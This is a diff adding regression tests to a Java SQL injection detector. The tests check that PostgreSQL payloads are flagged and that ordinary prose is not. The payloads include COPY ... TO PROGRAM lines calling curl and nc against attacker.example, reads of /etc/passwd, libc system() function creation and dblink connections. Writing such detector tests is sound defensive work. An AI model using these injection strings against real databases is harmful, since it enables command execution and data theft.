@@ -136,6 +136,74 @@ class SqlInjectionDetectorTest {
     assertThat(none.toString()).isEqualTo("Detection[NONE]");
   }
 
+  // Regression tests for issue 17 item 10 (detector blind spots), named after what broke.
+
+  @ParameterizedTest
+  @ValueSource(strings = {
+    "'; COPY t FROM PROGRAM 'id'--",
+    ";copy (select '') to program 'curl http://attacker.example/x'",
+    "1; COPY t(a, b) FROM PROGRAM 'id'",
+    "COPY (SELECT 1) TO PROGRAM 'nc attacker.example 4444'",
+    "copy myfile from '/etc/passwd';",
+    "'; CREATE OR REPLACE FUNCTION f() RETURNS void AS $$ import os $$ LANGUAGE plpython3u;--",
+    "; CREATE FUNCTION sys(cstring) RETURNS int AS '/lib/libc.so.6','system' LANGUAGE c STRICT--",
+    "CREATE FUNCTION sys(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6', 'system'",
+    "do $$ import os $$ language plpythonu",
+    "1; CREATE EXTENSION dblink",
+  })
+  void postgresStatementsThatRunProgramsWereMissed(String input) {
+    Detection d = detector.detect(input);
+    assertThat(d.kind()).as("%s -> %s", input, d).isEqualTo(Detection.Kind.SQL_STACKED_QUERY);
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {
+    "1; select pg_read_file('/etc/passwd')",
+    "1 and 1=(select pg_read_binary_file('/etc/passwd'))",
+    "1; select lo_import('/etc/passwd')",
+    "1; select dblink_connect('host=attacker.example')",
+    "' and 1=(select dblink_exec('host=x', 'drop table t'))--",
+  })
+  void postgresFileAndDblinkFunctionsWereMissed(String input) {
+    assertThat(detector.detect(input).kind()).as("%s", input)
+        .isEqualTo(Detection.Kind.SQL_DANGEROUS_FUNCTION);
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {
+    "Copy this from 'Moby Dick'", "copy the file from program files",
+    "Copy the text from the program window", "create your own language learning plan",
+  })
+  void copyAndCreateInProseStillPass(String input) {
+    assertThat(detector.detect(input)).as("%s", input).isSameAs(Detection.none());
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {
+    "You should have received a copy of the license along with this program; if not, write to us.",
+    "Here is a sample; alter the names: Yoyodyne, Inc. disclaims all copyright interest.",
+    "Arguments to \"exec()\" and \"eval()\" are special.",
+    "If you execute \"from . import mod\" from a module, you import \"pkg.mod\".",
+    "Call me; if (and only if) you want.",
+    "Drop table tennis and join the chess club!",
+    "Create table settings in the admin panel.",
+  })
+  void statementKeywordsInProseWereRefused(String input) {
+    assertThat(detector.detect(input)).as("%s", input).isSameAs(Detection.none());
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {
+    "';if not(select system_user) <> 'sa' waitfor delay '0:0:5'--",
+    "; if not exists (select 1) drop table t", "1;if(1=1) select 1", "'; exec('select 1')--",
+    "x'; drop members--", "DROP TABLE users", "drop table users;", "CREATE TABLE t (a int)",
+    "CREATE TABLE t AS SELECT 1", "ALTER TABLE users ADD x int", "ALTER LOGIN sa WITH PASSWORD = 'x'",
+  })
+  void statementsAfterABoundaryAreStillFound(String input) {
+    assertThat(detector.detect(input).kind()).as("%s", input)
+        .isEqualTo(Detection.Kind.SQL_STACKED_QUERY);
+  }
+
   @Test
   void worksOnAnyCharSequence() {
     CharSequence text = java.nio.CharBuffer.wrap("1 or 1=1");
